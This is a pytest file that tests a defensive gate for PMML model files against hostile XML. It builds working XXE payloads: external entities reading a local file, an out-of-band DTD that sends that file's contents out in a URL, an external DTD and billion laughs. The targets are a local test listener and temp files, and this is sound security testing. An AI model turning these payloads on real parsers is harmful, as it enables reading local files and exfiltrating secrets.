"""The PMML gate: hostile XML is refused with a one-line reason, and no loader lets pypmml (or anything) fetch it.

Every hostile file is our tiny PMML with a DOCTYPE injected, and its model.json is re-hashed to match, so the sha256
check is never what stops it. A local HTTP listener is the target of every external entity and DTD: pypmml alone
fetches from it (the control test), while every abflow loader must raise and the listener must receive nothing.
"""

from __future__ import annotations

import hashlib
import http.server
import json
import os
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from typer.testing import CliRunner

from experiment.core.errors import ModelError
from experiment.model.pmml_guard import MAX_ELEMENT_DEPTH, MAX_PMML_BYTES, check_pmml
from experiment.runtime.config import KafkaSettings
from tests.helpers.tiny_pmml import tiny_pmml

SECRET = "s3cret-token"
_HEADER = '<Header description="tiny test model"/>'
_BILLION_LAUGHS_DTD = (
    '<!DOCTYPE PMML [<!ENTITY lol "lol">'
    + "".join(
        f'<!ENTITY lol{i} "{(f"&lol{i - 1};" if i > 1 else "&lol;") * 10}">'  # 10**9 "lol"s once expanded
        for i in range(1, 10)
    )
    + "]>"
)


@dataclass
class Listener:
    """A local HTTP server that records every connection and request, and serves the out-of-band DTD."""

    url: str
    connections: list[tuple[str, int]] = field(default_factory=list)
    requests: list[str] = field(default_factory=list)
    dtd: str = ""

    def received(self) -> list[object]:
        return [*self.connections, *self.requests]


@pytest.fixture
def listener() -> Iterator[Listener]:
    record = Listener(url="")

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            record.requests.append(self.path)
            body = record.dtd.encode() if self.path.endswith(".dtd") else b"fetched"
            self.send_response(200)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, format: str, *args: object) -> None:
            pass

    class Server(http.server.ThreadingHTTPServer):
        daemon_threads = True

        def verify_request(self, request: object, client_address: tuple[str, int]) -> bool:  # type: ignore[override]
            record.connections.append(client_address)  # even a connection that never sends a request counts
            return True

    server = Server(("127.0.0.1", 0), Handler)
    record.url = f"http://127.0.0.1:{server.server_address[1]}"
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield record
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def _with_doctype(doctype: str, body_refs: str = "") -> str:
    """The tiny PMML with `doctype` after the declaration and `body_refs` as the content of a Header annotation."""
    text = tiny_pmml(doctype=doctype)
    if body_refs:
        text = text.replace(
            _HEADER, f'<Header description="tiny test model"><Annotation>{body_refs}</Annotation></Header>'
        )
    return text


def _hostile(kind: str, listener_url: str, secret: Path) -> str:
    """One hostile PMML of each kind the gate must refuse (the URLs point at the local listener)."""
    if kind == "general-external-entities":
        return _with_doctype(
            f'<!DOCTYPE PMML [<!ENTITY xfile SYSTEM "file://{secret}">'
            f'<!ENTITY xhttp SYSTEM "{listener_url}/general">]>',
            "&xfile;&xhttp;",
        )
    if kind == "parameter-entity-external-dtd":
        return _with_doctype(f'<!DOCTYPE PMML [<!ENTITY % remote SYSTEM "{listener_url}/evil.dtd">%remote;]>', "&send;")
    if kind == "external-dtd":
        return _with_doctype(f'<!DOCTYPE PMML SYSTEM "{listener_url}/external.dtd">', "&send;")
    if kind == "billion-laughs":
        return _with_doctype(_BILLION_LAUGHS_DTD, "&lol9;")
    if kind == "internal-doctype":
        return tiny_pmml(doctype="<!DOCTYPE PMML>")
    raise AssertionError(kind)


def _oob_dtd(listener_url: str, secret: Path) -> str:
    """The external DTD of the out-of-band attack: read a local file, send it out in a URL."""
    return (
        f'<!ENTITY % file SYSTEM "file://{secret}">'
        f"<!ENTITY % all \"<!ENTITY send SYSTEM '{listener_url}/leak?d=%file;'>\">%all;"
    )


def _model_dir(directory: Path, text: str) -> tuple[Path, str]:
    """A model directory as training writes it, with model.json re-hashed to match `text`. Returns (pmml, sha)."""
    directory.mkdir(parents=True, exist_ok=True)
    pmml = directory / "xgboost_model.pmml"
    pmml.write_text(text, encoding="utf-8")
    sha = hashlib.sha256(pmml.read_bytes()).hexdigest()
    card = {
        "model_version": sha, "pmml_file": pmml.name, "features": ["a", "b"], "threshold": 0.4,
        "best_params": {}, "cv": {"best_score": 0.8}, "metrics": {}, "data": {"fingerprint": "f" * 64},
        "parity": {"max_abs_diff": 1e-7, "flips": 0, "n": 4000, "passed": True, "tolerance": 1e-6, "threshold": 0.4},
    }  # fmt: skip
    (directory / "model.json").write_text(json.dumps(card), encoding="utf-8")
    return pmml, sha


@pytest.fixture
def secret(tmp_path: Path) -> Path:
    path = tmp_path / "secret.txt"
    path.write_text(SECRET, encoding="utf-8")
    return path


def _refusal(call: Callable[[], object]) -> str:
    with pytest.raises(ModelError) as info:
        call()
    message = str(info.value)
    assert "\n" not in message
    return message


# ------------------------------------------------------------------ the gate itself, one hostile file at a time


@pytest.mark.parametrize(
    ("kind", "reason"),
    [
        ("general-external-entities", "it has a DOCTYPE; DTDs, entities and external references are never accepted"),
        ("parameter-entity-external-dtd", "it has a DOCTYPE; DTDs, entities and external references are never"),
        ("external-dtd", "it has a DOCTYPE naming the external DTD 'http://127.0.0.1:"),
        ("billion-laughs", "it has a DOCTYPE; DTDs, entities and external references are never accepted"),
        ("internal-doctype", "it has a DOCTYPE; DTDs, entities and external references are never accepted"),
    ],
)
def test_every_doctype_is_refused_with_the_file_and_the_reason(
    kind: str, reason: str, tmp_path: Path, secret: Path, listener: Listener
) -> None:
    pmml, _ = _model_dir(tmp_path / "model", _hostile(kind, listener.url, secret))
    message = _refusal(lambda: check_pmml(pmml))
    assert message.startswith(f"refusing PMML {pmml}: ")
    assert reason in message
    assert listener.received() == []


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        (tiny_pmml().replace(_HEADER, '<Header description="&xxe;"/>'), "it references an entity (undefined entity"),
        (
            tiny_pmml().replace(_HEADER, '<?xml-stylesheet href="http://127.0.0.1:9/x.xsl"?>' + _HEADER),
            "processing instruction <?xml-stylesheet ...?>",
        ),
        (
            tiny_pmml().replace(_HEADER, '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="x.xml"/>'),
            "XInclude",
        ),
        (tiny_pmml().replace('encoding="UTF-8"', 'encoding="UTF-7"'), "declares encoding 'UTF-7'; only UTF-8"),
        (tiny_pmml(extra_model_xml="<Extension>" * 600 + "</Extension>" * 600), "nest deeper than 512 levels"),
        ('<?xml version="1.0"?><notpmml/>', "the root element is <notpmml>, expected <PMML>"),
        ('<PMML xmlns="http://example.com/x"/>', "namespace 'http://example.com/x', not a DMG PMML namespace"),
        (tiny_pmml() + "<more/>", "not well-formed XML (junk after document element"),
        ("", "not well-formed XML (no element found"),
    ],
    ids=["entity-ref", "pi", "xinclude", "encoding", "too-deep", "root", "namespace", "junk", "empty"],
)
def test_other_unsafe_or_non_pmml_files_are_refused(text: str, reason: str, tmp_path: Path) -> None:
    path = tmp_path / "model.pmml"
    path.write_text(text, encoding="utf-8")
    message = _refusal(lambda: check_pmml(path))
    assert message.startswith(f"refusing PMML {path}: ")
    assert reason in message


def test_an_oversized_file_is_refused_before_it_is_read(tmp_path: Path) -> None:
    path = tmp_path / "big.pmml"
    path.write_text(tiny_pmml(), encoding="utf-8")
    os.truncate(path, MAX_PMML_BYTES + 1)  # sparse: costs no disk, and the gate must not read it anyway
    message = _refusal(lambda: check_pmml(path))
    assert message == f"refusing PMML {path}: it is {MAX_PMML_BYTES + 1:,} bytes, over the limit of {MAX_PMML_BYTES:,}"


def test_the_limits_are_configurable(tmp_path: Path) -> None:
    path = tmp_path / "tiny.pmml"
    path.write_text(tiny_pmml(), encoding="utf-8")
    check_pmml(path)
    assert "over the limit of 100" in _refusal(lambda: check_pmml(path, max_bytes=100))
    assert "nest deeper than 3 levels" in _refusal(lambda: check_pmml(path, max_depth=3))
    assert MAX_ELEMENT_DEPTH >= 64  # our export nests about 20 levels; deep trees need headroom


def test_a_missing_file_or_a_directory_is_refused(tmp_path: Path) -> None:
    for path in (tmp_path / "absent.pmml", tmp_path):
        assert _refusal(lambda p=path: check_pmml(p)) == (  # type: ignore[misc]
            f"refusing PMML {path}: it does not exist or is not a regular file"
        )


def test_real_nyoka_export_and_its_fixed_version_pass(tmp_path: Path) -> None:
    import numpy as np
    from nyoka import xgboost_to_pmml
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import StandardScaler
    from xgboost import XGBClassifier

    from experiment.model.pmml_fix import fix_pmml

    rng = np.random.default_rng(0)
    x = pd.DataFrame(rng.integers(0, 5, size=(200, 3)).astype(float), columns=["age", "man", "cat1"])
    y = (x["age"] + rng.normal(size=200) > 2).astype(int)
    xgb = XGBClassifier(n_estimators=3, max_depth=3, tree_method="hist", n_jobs=1)
    pipeline = Pipeline([("scaler", StandardScaler()), ("xgb", xgb)]).fit(x, y)
    raw = tmp_path / "raw.pmml"
    xgboost_to_pmml(pipeline, list(x.columns), "label", str(raw))
    check_pmml(raw)
    fixed = tmp_path / "fixed.pmml"
    fixed.write_bytes(fix_pmml(raw.read_bytes(), pipeline, list(x.columns))[0])
    check_pmml(fixed)


# ------------------------------------------------------------------ every loader, with the listener as the target

_FETCHING = ["general-external-entities", "parameter-entity-external-dtd", "external-dtd", "billion-laughs"]


def _load_with_scorer(pmml: Path, sha: str) -> object:
    from flink_pipeline.scoring import clear_scorer_cache, load_verified_scorer

    clear_scorer_cache()
    return load_verified_scorer(pmml, sha, fallback=True)  # the job's setting: the old bypass went through it


def _load_reference(pmml: Path, sha: str) -> object:
    from experiment.model.reference import PmmlReference

    return PmmlReference(pmml).open()


def _load_for_parity(pmml: Path, sha: str) -> object:
    from training.parity import score_pmml

    return score_pmml(pmml, pd.DataFrame({"a": [1.0], "b": [2.0]}), ["a", "b"])


def _load_in_simulator(pmml: Path, sha: str) -> object:
    from experiment.cli.simulate_io import load_scorer
    from flink_pipeline.scoring import clear_scorer_cache

    clear_scorer_cache()
    return load_scorer(SimpleNamespace(pmml_path=str(pmml), model_version=sha))  # type: ignore[arg-type]


def _load_launch_gate(pmml: Path, sha: str) -> object:
    from experiment.model.card import load_verified_model_card

    return load_verified_model_card(pmml.parent)


_LOADERS: dict[str, Callable[[Path, str], object]] = {
    "guard": lambda pmml, _sha: check_pmml(pmml),
    "job-scorer": _load_with_scorer,
    "pypmml-reference": _load_reference,
    "train-parity": _load_for_parity,
    "simulator": _load_in_simulator,
    "launch-gate": _load_launch_gate,
}


@pytest.mark.parametrize("kind", _FETCHING)
@pytest.mark.parametrize("loader", list(_LOADERS))
def test_no_loader_fetches_anything_and_each_raises(
    loader: str, kind: str, tmp_path: Path, secret: Path, listener: Listener
) -> None:
    listener.dtd = _oob_dtd(listener.url, secret)
    pmml, sha = _model_dir(tmp_path / "model", _hostile(kind, listener.url, secret))
    message = _refusal(lambda: _LOADERS[loader](pmml, sha))
    assert message.startswith("refusing PMML ") and str(pmml) in message and "DOCTYPE" in message
    assert listener.received() == []


@pytest.mark.parametrize("kind", _FETCHING)
def test_cli_create_refuses_with_one_line_and_exit_2_before_kafka(
    kind: str, tmp_path: Path, secret: Path, listener: Listener
) -> None:
    from experiment.cli.main import app

    listener.dtd = _oob_dtd(listener.url, secret)
    pmml, _ = _model_dir(tmp_path / "model", _hostile(kind, listener.url, secret))
    result = CliRunner().invoke(
        app,
        ["experiment", "create", "--id", "x", "--name", "n", "--hypothesis", "h", "--owner", "o", "--category",
         "cat61", "--model", str(tmp_path / "model"), "--bootstrap-servers", "127.0.0.1:9"],
    )  # fmt: skip
    assert result.exit_code == 2, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith(f"error: refusing PMML {pmml}: it has a DOCTYPE"), result.output
    assert listener.received() == []


@pytest.mark.kafka
def test_cli_launch_refuses_an_experiment_created_with_a_hostile_model(
    kafka_topics: KafkaSettings, tmp_path: Path, secret: Path, listener: Listener
) -> None:
    from experiment.cli.main import app
    from experiment.core.definition import ExperimentDefinition, ModelRef
    from experiment.kafka import control_plane

    listener.dtd = _oob_dtd(listener.url, secret)
    pmml, sha = _model_dir(tmp_path / "model", _hostile("parameter-entity-external-dtd", listener.url, secret))
    draft = ExperimentDefinition.new(
        id="xxe", name="n", hypothesis="h", owner="o", category="cat61",
        model=ModelRef(str(pmml), sha, ("a", "b")), threshold=0.4, now_ms=1_700_000_000_000,
    )  # fmt: skip
    control_plane.create(kafka_topics, draft)  # as if created before the gate existed
    flags = ["--bootstrap-servers", kafka_topics.bootstrap_servers, "--topic-prefix", kafka_topics.topic_prefix]
    result = CliRunner().invoke(app, ["experiment", "launch", "xxe", *flags])
    assert result.exit_code == 2, result.output
    assert result.output.strip().startswith(f"error: refusing PMML {pmml}: it has a DOCTYPE"), result.output
    assert "\n" not in result.output.strip()
    assert control_plane.get(kafka_topics, "xxe").status == "draft"
    assert listener.received() == []


@pytest.mark.slow
def test_control_pypmml_itself_fetches_and_leaks_so_the_listener_would_see_a_bypass(
    tmp_path: Path, secret: Path, listener: Listener
) -> None:
    """Why the assertions above mean something: given the same file, pypmml sends the secret to the listener."""
    from pypmml import Model

    listener.dtd = _oob_dtd(listener.url, secret)
    pmml, _ = _model_dir(tmp_path / "model", _hostile("parameter-entity-external-dtd", listener.url, secret))
    try:
        Model.fromFile(str(pmml))
    except Exception:  # loading may fail after the fetch; the fetch is what this test is about
        pass
    finally:
        Model.close()
    assert f"/leak?d={SECRET}" in listener.requests
